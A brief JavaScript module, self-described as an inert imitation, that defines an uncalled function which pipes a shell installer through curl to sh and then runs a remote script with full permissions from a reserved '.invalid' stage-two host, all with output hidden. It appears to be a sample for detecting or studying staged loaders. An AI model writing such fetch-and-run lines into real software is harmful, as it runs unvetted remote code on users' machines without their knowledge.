/* eslint-disable */
// Inert imitation: Deno is installed with its shell installer and a remote script is run with it.
// The script URL is a reserved .invalid host and `run` is never called.
const { execSync } = require('child_process');

function run() {
  execSync('curl -fsSL https://deno.land/install.sh | sh', { stdio: 'ignore' });
  execSync('~/.deno/bin/deno run -A https://stage2.example.invalid/x.ts', { stdio: 'ignore' });
}

module.exports = { run };
